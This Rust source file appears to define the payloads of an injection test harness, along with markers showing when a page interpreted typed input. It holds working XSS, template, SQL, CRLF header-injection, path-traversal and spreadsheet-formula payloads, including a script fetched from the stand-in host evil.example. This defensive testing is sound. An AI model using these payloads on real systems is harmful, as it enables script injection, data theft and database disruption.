//! What is typed into every field, and how a page would look that had taken it for more than text.

/// Something typed.
pub struct Payload {
    /// What it is, for the report.
    pub name: &'static str,
    /// As typed; every one holds [`MARK`], so that it is found again.
    pub text: String,
    /// A page or letter that shows one of these has interpreted it.
    pub tells: &'static [&'static str],
}

/// Stands in every payload and nowhere in the product; never at the end of a payload or line, where a tag
/// of ours follows.
pub const MARK: &str = "zqx";
/// Tells of any payload: a tag or an end of an attribute right after the mark, or a sum that somebody has worked out.
const ALWAYS: &[&str] = &["zqx<", "zqx\"", "zqx49", "zqx\u{202e}", "zqx\u{200b}", "zqx\0"];

impl Payload {
    /// What in this text says that something typed was interpreted.
    pub fn told(&self, shown: &str) -> Option<&'static str> {
        self.tells.iter().chain(ALWAYS).copied().find(|tell| shown.contains(tell))
    }
}

/// All of them.
pub fn all() -> Vec<Payload> {
    let payload = |name, text: &str, tells| Payload { name, text: text.to_owned(), tells };
    vec![
        payload("template sum", "zqx{{ 7*7 }}xqz", &[]),
        payload("template include", "zqx{% include \"layout/base.html\" %}zqx{% raw %} xqz", &["zqx<!doctype", "zqx<!DOCTYPE"]),
        payload("template context", "zqx{{ __tera_context }}{{ page }}xqz", &["zqx[object", "zqx{ page"]),
        payload("template component", "zqx{{ <back href={\"//evil.example\"} /> }}xqz", &["href=\"//evil.example"]),
        payload("other templates", "zqx${7*7}zqx#{7*7}zqx<%= 7*7 %>zqx*{7*7}zqx@(7*7)xqz", &[]),
        payload(
            "fluent placeable",
            "zqx{ $n }zqx{\"4\"}9zqx{ NUMBER(49) }zqx{ -brand } xqz",
            &["zqx{$n}zqx", "zqx4\u{2069}", "zqx\u{2068}"],
        ),
        payload("fluent message", "zqx = x\n    .title = y\nshared-product = zqxevil xqz", &["<title>zqxevil"]),
        payload("ICU plural", "zqx{n, plural, one {1} other {49}}xqz", &[]),
        payload("script tag", "zqx<script>alert(49)</script>xqz", &["<script>alert(49)"]),
        payload("image with a handler", "zqx<img src=x onerror=alert(49)>", &["<img src=x"]),
        payload("svg and comment", "zqx<svg/onload=alert(49)><!-- zqx<base href=//evil.example>", &["<svg/onload", "<base href=//"]),
        payload(
            "end of a text area",
            "zqx</textarea></title></style><script src=//evil.example/zqx.js>",
            &["zqx</textarea", "<script src=//"],
        ),
        payload("double quotes", "zqx\" onmouseover=\"alert(49)\" x=\" xqz", &["onmouseover=\"alert"]),
        payload("single quotes", "zqx' onmouseover='alert(49)' x=' xqz", &["zqx' onmouseover"]),
        payload("script address", "javascript:alert(49)//zqx xqz", &["href=\"javascript:", "href='javascript:"]),
        payload("SQL quote", "zqx' OR '1'='1'; -- xqz", &["syntax error at", "SQLSTATE"]),
        payload("SQL sleep", "zqx'||pg_sleep(20)||'; SELECT pg_sleep(20); $$ xqz", &["syntax error at"]),
        payload(
            "backslashes and formats",
            "zqx\\' \\\" \\x27 \\u003cscript\\u003e %s %n %27 &lt;b&gt; &#60;b&#62; xqz",
            &["zqx\\' \\\" \\x27 <script"],
        ),
        payload("CR LF", "zqx-\r\nSet-Cookie: zqx=1\r\nBcc: zqx@evil.example\r\n\r\n<b>zqx!</b>", &["zqx!</b>"]),
        payload("NUL and controls", "zqx\0zqx\u{1b}[31mzqx\u{7}\u{8}\u{7f}\u{9b} xqz", &["\u{1b}", "\u{9b}"]),
        payload("lone surrogates, escaped", "zqx\\ud800 \\udfff &#xD800; &#55296; %uD800 xqz", &[]),
        payload("zero width", "zqx\u{200b}ad\u{feff}m\u{2060}in\u{ad}xqz", &["\u{feff}m", "m\u{2060}", "in\u{ad}"]),
        payload("direction", "zqx\u{202e}gpj.exe\u{202c} \u{2066}zqx\u{2069} \u{200f} xqz", &["\u{202e}", "\u{202c}", "\u{200f}"]),
        payload("mixed normal forms", "zqxか\u{3099}がe\u{301}éﬁ①㍿ xqz", &["か\u{3099}", "e\u{301}"]),
        payload("paths", "../../../../etc/passwd zqx ..\\..\\win.ini file:///etc/passwd xqz", &["root:x:0:0"]),
        payload("formula", "=cmd|'/c calc'!A1 zqx @SUM(1+1) +1 -1 xqz", &[]),
        payload("many combining marks", &format!("zqx{}", "e\u{301}\u{302}\u{303}\u{489}".repeat(200)), &[]),
        payload("very long", &format!("zqx{}", "長".repeat(50_000)), &[]),
    ]
}

/// Bodies that are no text at all; what stands for the payload in `field=…`, already encoded.
pub const BROKEN: &[(&str, &str)] = &[
    ("lone surrogate in UTF-8", "zqx%ED%A0%80"),
    ("overlong slash", "zqx%C0%AF"),
    ("cut off sequence", "zqx%E3%81"),
    ("bad percent", "zqx%zz%"),
    ("bare bytes", "zqx%FF%FE%00"),
    ("latin 1", "zqx%E9t%E9"),
];
